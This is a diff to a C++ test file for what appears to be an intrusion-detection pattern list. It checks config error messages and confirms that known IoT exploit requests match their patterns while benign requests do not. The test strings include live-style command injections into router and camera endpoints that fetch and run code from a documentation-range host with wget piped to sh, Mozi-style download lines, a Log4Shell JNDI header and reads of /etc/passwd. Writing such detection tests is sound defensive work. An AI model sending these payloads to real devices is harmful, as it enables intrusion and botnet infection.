@@ -120,12 +120,18 @@ TEST_CASE("mistakes are named with their line") {
     CHECK(refusal(entry("where = \"nowhere\"\ncontains = \"abc\"\n")) == ":6: \"where\" is none of those that exist");
     CHECK(refusal(entry("where = \"telnet\"\nmethod = \"GET\"\ncontains = \"abc\"\n")) ==
           ":7: \"method\" is for HTTP alone");
-    CHECK(refusal(entry("where = \"telnet\"\nstarts = \"abcd\"\n")) == ":7: \"starts\" is for streams alone");
+    CHECK(refusal(entry("where = \"telnet\"\nstarts = \"abcd\"\n")) == ":7: \"starts\" is for streams and datagrams alone");
     CHECK(refusal(entry("where = \"stream\"\ncontains = \"abc\"\n")).find("in at least 3 bytes") != std::string::npos);
     CHECK(refusal(entry("where = \"telnet\"\ncontains = \"a\"\n")) == ":7: \"contains\" must have words of 2 to 128 bytes");
     CHECK(refusal(entry("where = \"telnet\"\ncontains = \"\"\n")) == ":7: \"contains\" is empty");
     CHECK(refusal(entry("where = \"telnet\"\ncontains = [1]\n")) == ":7: \"contains\" must be text in quotes");
     CHECK(refusal(entry("where = \"telnet\"\ncontains = \"abc\"\nregex = \"(a+)+\"\n")) == ":8: unknown key \"regex\"");
+    CHECK(refusal(entry("where = \"datagram\"\ncontains = \"abc\"\n")) ==
+          ":1: \"port\" is missing: where the datagram is sent to");
+    CHECK(refusal(entry("where = \"stream\"\nport = 7\nstarts = \"abc\"\n")) == ":7: \"port\" is for datagrams alone");
+    for (const char* port : {"0", "65536", "\"7\"", "[7]"})
+        CHECK(refusal(entry("where = \"datagram\"\nport = " + std::string{port} + "\ncontains = \"abc\"\n"))
+                  .starts_with(":7: \"port\" must be"));
     const std::string good = "where = \"telnet\"\ncontains = \"abc\"\n";
     CHECK(refusal(entry(good, "0")) == ":2: \"number\" must be a whole number from 1 to 65535");
     CHECK(refusal(entry(good) + entry(good)) == ":8: number 1 is taken");
@@ -168,8 +174,28 @@ TEST_CASE("the list that is shipped: published requests are found, the devices' 
     CHECK(number_in(patterns, uri, "/setup.cgi?next_file=basic.htm&todo=save", "GET") == 0);
     CHECK(number_in(patterns, uri, "/shell?cd /tmp;rm -rf *;wget http://198.51.100.7/jaws", "GET") != 0);
     CHECK(number_in(patterns, uri, "/shell?lang=en", "GET") == 0);
-    CHECK(number_in(patterns, uri, "/SDK/webLanguage", "PUT") == 51);
-    CHECK(number_in(patterns, uri, "/SDK/webLanguage", "GET") == 0);
+    CHECK(number_in(patterns, body, "<?xml version='1.0'?><language>$(id>webLib/x)</language>", "PUT") == 51);
+    CHECK(number_in(patterns, body, "<?xml version='1.0'?><language>en</language>", "PUT") == 0);
+    CHECK(number_in(patterns, body, "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget http://x/y") == 7);
+    CHECK(number_in(patterns, body, "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=192.168.1.1") == 0);
+    CHECK(number_in(patterns, uri, "/login.cgi?cli=multilingual show';cat /etc/passwd'$", "GET") == 14);
+    CHECK(number_in(patterns, uri, "/login.cgi?cli=en", "GET") == 0);
+    CHECK(number_in(patterns, body, "C1=ON&cmd=cgi_ntp_time&f_ntp_server=`wget -qO- http://198.51.100.7/x|sh`") == 48);
+    CHECK(number_in(patterns, body, "C1=ON&cmd=cgi_ntp_time&f_ntp_server=pool.ntp.org") == 0);
+    CHECK(number_in(patterns, body, "action=login&keyPath='\nbusybox${IFS}wget&loginUser=a&loginPwd=a") == 26);
+    CHECK(number_in(patterns, body, "operation=write&country=$(id)") == 37);
+    CHECK(number_in(patterns, body, "operation=write&country=DE") == 0);
+    CHECK(number_in(patterns, uri, "/board.cgi?cmd=cd /tmp;rm -rf *;wget http://198.51.100.7/Mozi.a", "GET") == 55);
+    CHECK(number_in(patterns, uri, "/language/Swedish${IFS}&&wget${IFS}-O-${IFS}http://198.51.100.7|sh&&tar${IFS}/string.js",
+                    "GET") == 56);
+    CHECK(number_in(patterns, body, "ttcp_num=2&ttcp_size=2&ttcp_ip=-h `(busybox wget -O- http://198.51.100.7/x)|sh`") ==
+          13);
+    CHECK(number_in(patterns, uri, "/cgi-bin/config.exp", "GET") == 36);
+    CHECK(number_in(patterns, uri, "/cgi-bin/config.exp", "POST") == 0);
+    CHECK(number_in(patterns, uri, "/gena.cgi?service=`busybox wget -O- http://198.51.100.7/x|sh;`", "SUBSCRIBE") == 39);
+    CHECK(number_in(patterns, uri, "/gena.cgi?service=WANIPConn1", "SUBSCRIBE") == 0);
+    CHECK(number_in(patterns, body, "ip=1&host=a;wget -qO- http://198.51.100.7/x|sh") == 153);
+    CHECK(number_in(patterns, PatternPlace::stream, "\x13OpenTelnet:OpenOnce") == 73);
     CHECK(number_in(patterns, header, "User-Agent: ${jndi:ldap://198.51.100.7/a}\r\n") == 103);
     CHECK(number_in(patterns, PatternPlace::telnet, "/bin/busybox wget http://198.51.100.7/bins/x.mips -O - > x") == 204);
     CHECK(number_in(patterns, PatternPlace::telnet, "echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > x") == 206);
